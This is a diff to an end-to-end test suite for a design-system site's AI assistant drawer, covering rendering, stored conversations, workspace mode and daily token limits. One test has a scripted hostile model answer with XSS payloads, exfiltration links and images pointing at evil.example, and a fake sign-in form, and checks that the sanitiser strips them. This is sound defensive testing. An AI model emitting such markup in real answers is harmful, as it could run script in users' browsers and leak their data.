@@ -5,9 +5,9 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { type ModelServer, type ModelTurn, openModelServer } from "../test/model-server.ts";
 import { pushExamples } from "../test/push-workspace.ts";
 import { violationsOn } from "./axe.ts";
-import { openExamples, openRegistry } from "./open-registry.ts";
+import { copyExamples, openExamples, openRegistry, openWorkspace } from "./open-registry.ts";
 import { setUpAdmin } from "./set-up-admin.ts";
-import { PHONE, useSite } from "./use-site.ts";
+import { addressOf, PHONE, useSite } from "./use-site.ts";
 
 const SHOTS = process.env.SCREENSHOTS ? ".tmp/screenshots" : undefined;
 
@@ -164,6 +164,93 @@ describe("the assistant", () => {
     expect(await page.getByRole("button", { name: /^Ask about / }).isVisible()).toBe(true);
   });
 
+  it("shows blocks as safe HTML, cards of components, links to press, sources and findings", async () => {
+    script = (_, number) =>
+      calls-- > 0
+        ? {
+            calls: [
+              { id: `a${number}`, name: "show_components", input: { ids: ["button", "card"] } },
+              { id: `b${number}`, name: "navigate_pattern", input: { id: "booking-form" } },
+            ],
+          }
+        : { text: ANSWER.match(/[\s\S]{1,12}/g) ?? [] };
+    let calls = 1;
+    const page = await signedIn();
+    await open(page, "/components/button");
+    await ask(page, "Which button do I use for a destructive action?");
+    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).isVisible()).toBe(true);
+    const answer = answers(page);
+    expect(await answer.getByRole("heading", { name: "How it looks" }).count()).toBe(1);
+    expect(await answer.locator("figure.code [data-copy-code]").count()).toBe(1);
+    expect(await answer.locator(".assistant-pending").count()).toBe(0);
+    const cards = answer.getByRole("list", { name: "Components" });
+    await expect
+      .poll(() => cards.getByRole("link", { name: "Button", exact: true }).getAttribute("href"))
+      .toBe("/components/button");
+    await expect.poll(() => cards.locator("iframe").first().getAttribute("sandbox")).toBe("allow-scripts");
+    expect(await answer.getByRole("link", { name: "Open the pattern booking-form" }).getAttribute("href")).toBe(
+      "/patterns/booking-form",
+    );
+    expect(addressOf(page)).toBe("/components/button");
+    expect(await answer.getByRole("navigation", { name: "Sources" }).getByRole("link").count()).toBeGreaterThan(0);
+    expect(await violationsOn(page)).toEqual([]);
+    if (SHOTS) await page.screenshot({ path: join(SHOTS, "assistant-cards.png") });
+    site.forgive();
+  });
+
+  it("shows what the check found below the code it is in, with what to use instead", async () => {
+    script = () => ({ text: ["Like this:\n\n```css\n.notice { color: #fee", "be3; }\n```\n\nThat is all."] });
+    const page = await signedIn();
+    await open(page);
+    await ask(page, "How do I color a notice?");
+    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).isVisible()).toBe(true);
+    const findings = answers(page).locator("figure.code + ul").getByRole("listitem");
+    expect(await findings.count()).toBeGreaterThan(0);
+    expect(await findings.first().innerText()).toMatch(/^Line 1: .*var\(--color-highlight-100\)/s);
+    if (SHOTS) await page.screenshot({ path: join(SHOTS, "assistant-findings.png") });
+  });
+
+  it("the button of the bar closes what it opened, and the field keeps what was written", async () => {
+    const page = await signedIn();
+    await page.goto("/docs");
+    const button = page.getByRole("banner").getByRole("button", { name: "Ask" });
+    await button.click();
+    await field(page).fill("Half a question");
+    expect(await button.getAttribute("aria-expanded")).toBe("true");
+    await button.click();
+    await expect.poll(() => drawer(page).isVisible()).toBe(false);
+    expect(await button.getAttribute("aria-expanded")).toBe("false");
+    await button.click();
+    await page.getByRole("navigation", { name: "Sections" }).getByRole("link", { name: "Components" }).click();
+    await expect.poll(() => addressOf(page)).toBe("/components");
+    await expect.poll(() => field(page).inputValue()).toBe("Half a question");
+    // The page has the focus, not the panel that was open before it.
+    expect(await field(page).evaluate(isFocused)).toBe(false);
+  });
+
+  it("what a hostile model says runs nothing and asks nobody", async () => {
+    script = () => ({
+      text: [
+        "<img src=x onerror=\"document.title='owned'\"> <script>document.title='owned'</script>\n\n",
+        "![a](https://evil.example/?q=secret) [go](javascript:document.title='owned') [out](https://evil.example/?q=1)\n\n",
+        "<iframe src=https://evil.example></iframe><style>*{display:none}</style>\n\n",
+        "<form action=https://evil.example><button>Sign in</button></form> <a href='/sign-out' data-ask data-copy=x>x</a>",
+      ],
+    });
+    const page = await signedIn();
+    await open(page);
+    const title = await page.title();
+    await ask(page, "Be evil");
+    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).isVisible()).toBe(true);
+    await page.waitForLoadState("networkidle");
+    expect(await page.title()).toBe(title);
+    const text = answers(page).locator(".assistant-text");
+    expect(
+      await text.locator("script, iframe, form, style, img, [onerror], [href^=javascript], [href*=evil]").count(),
+    ).toBe(0);
+    // That nothing went to another host is looked at by `useSite`.
+  });
+
   it("says what went wrong and what to do, and asks again", async () => {
     script = (_, number) => (failures-- > 0 ? { status: 500, message: `broken ${number}` } : { text: "Now it works." });
     let failures = 1;
@@ -284,6 +371,74 @@ const ANSWER = `Use **Button** with \`variant="danger"\`. It says that something
 
 The background is \`color.surface.page\`.`;
 
+describe("a registry that keeps conversations", () => {
+  let model: ModelServer;
+  const site = useSite(async () => {
+    model = await openModelServer(({ number }) => ({ text: `Answer **${number}**.` }));
+    return openRegistry("sqlite", { SERVICE_BASE_URL: "", ...model.env(), AI_CONVERSATIONS: "stored" });
+  });
+  afterAll(() => model?.close());
+
+  it("lists them in the drawer and on the account page, and goes on with one", async () => {
+    const page = await site.open(await setUpAdmin(site));
+    await open(page, "/");
+    await ask(page, "The first question?");
+    await expect.poll(() => answers(page).count()).toBe(1);
+    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).count()).toBe(1);
+    await drawer(page).getByRole("button", { name: "New conversation" }).click();
+    await ask(page, "Something else?");
+    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).count()).toBe(1);
+    await drawer(page).getByRole("button", { name: "Earlier conversations" }).click();
+    const entry = (title: string) => drawer(page).getByRole("button", { name: new RegExp(`^${title}`) });
+    await expect.poll(() => entry("The first question").isVisible()).toBe(true);
+    expect(await violationsOn(page)).toEqual([]);
+    if (SHOTS) await page.screenshot({ path: join(SHOTS, "assistant-stored.png") });
+    await entry("The first question").click();
+    await expect.poll(() => answers(page).locator("strong").allTextContents()).toEqual(["0"]);
+    await ask(page, "And on?");
+    await expect.poll(() => answers(page).count()).toBe(2);
+    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).count()).toBe(2);
+    await drawer(page).getByRole("button", { name: "Earlier conversations" }).click();
+    await drawer(page).getByRole("button", { name: "Delete “Something else?”" }).click();
+    await expect.poll(() => entry("Something else").count()).toBe(0);
+
+    await page.goto("/account#conversations");
+    const section = page.getByRole("region", { name: "Conversations with the assistant" });
+    expect(await section.getByText("The first question?").count()).toBe(1);
+    expect(await violationsOn(page)).toEqual([]);
+    if (SHOTS) await section.screenshot({ path: join(SHOTS, "assistant-account.png") });
+    await section.getByRole("button", { name: "Delete all conversations" }).click();
+    await expect.poll(() => section.getByText("None yet.").isVisible()).toBe(true);
+  });
+});
+
+describe("a workspace", () => {
+  let model: ModelServer;
+  const folders: { remove(): Promise<void> }[] = [];
+  const site = useSite(async () => {
+    model = await openModelServer(() => ({ text: "From your **files**." }));
+    const workspace = await copyExamples();
+    folders.push(workspace);
+    return openWorkspace(workspace.folder, model.env());
+  });
+  afterAll(async () => {
+    await model?.close();
+    for (const { remove } of folders) await remove();
+  });
+
+  it("answers who sits at the machine, and keeps nothing", async () => {
+    const page = await site.open();
+    await open(page);
+    await ask(page, "Which?");
+    await expect.poll(() => answers(page).locator("strong").allTextContents()).toEqual(["files"]);
+    expect(await drawer(page).getByRole("button", { name: "Earlier conversations" }).isVisible()).toBe(false);
+    // The conversation goes on behind a link, and what is kept of it is gone with the tab.
+    await page.goto("/foundations/icons");
+    await expect.poll(() => answers(page).locator("strong").allTextContents()).toEqual(["files"]);
+    expect(await page.evaluate(() => JSON.stringify({ ...localStorage }))).not.toContain("files");
+  });
+});
+
 describe("a registry without a model", () => {
   const site = useSite(openExamples);
 
@@ -298,21 +453,41 @@ describe("a registry without a model", () => {
   });
 });
 
-describe("a registry whose budget is spent", () => {
+describe("a registry with few tokens a day", () => {
   let model: ModelServer;
   const site = useSite(async () => {
-    model = await openModelServer(() => ({ text: "Never." }));
-    return openRegistry("sqlite", { SERVICE_BASE_URL: "", ...model.env(), AI_DAILY_TOKENS: "0" });
+    model = await openModelServer(() => ({ text: "Yes.", use: { input: 900, output: 200 } }));
+    return openRegistry("sqlite", { SERVICE_BASE_URL: "", ...model.env(), AI_DAILY_TOKENS: "1000" });
   });
   afterAll(() => model?.close());
 
-  it("says when there is more, and offers the search", async () => {
+  it("says what is left, when there is more, and offers the search", async () => {
     const page = await site.open(await setUpAdmin(site));
     await open(page, "/");
+    await expect.poll(() => drawer(page).getByText("1,000 of 1,000 tokens left today").isVisible()).toBe(true);
     await ask(page, "Anything?");
+    await expect
+      .poll(() => drawer(page).getByText("0 of 1,000 tokens left today", { exact: true }).isVisible())
+      .toBe(true);
+    await ask(page, "More?");
     await expect.poll(() => drawer(page).getByRole("alert").innerText()).toContain("00:00 UTC");
     expect(await drawer(page).getByRole("alert").getByRole("link", { name: "search" }).isVisible()).toBe(true);
-    expect(model.asked).toEqual([]);
+    expect(model.asked.length).toBe(1);
     site.forgive();
+  });
+});
+
+describe("a registry whose assistant is switched off", () => {
+  const site = useSite(() =>
+    openRegistry("sqlite", { SERVICE_BASE_URL: "", AI_MODEL: "any", AI_API_KEY: "any", AI_DAILY_TOKENS: "0" }),
+  );
+
+  it("says so, and offers the search", async () => {
+    const page = await site.open(await setUpAdmin(site));
+    await page.goto("/");
+    await page.keyboard.press("Control+j");
+    await expect.poll(() => drawer(page).getByText("AI_DAILY_TOKENS").isVisible()).toBe(true);
+    expect(await drawer(page).getByRole("link", { name: "Search instead" }).isVisible()).toBe(true);
+    expect(await field(page).isVisible()).toBe(false);
   });
 });
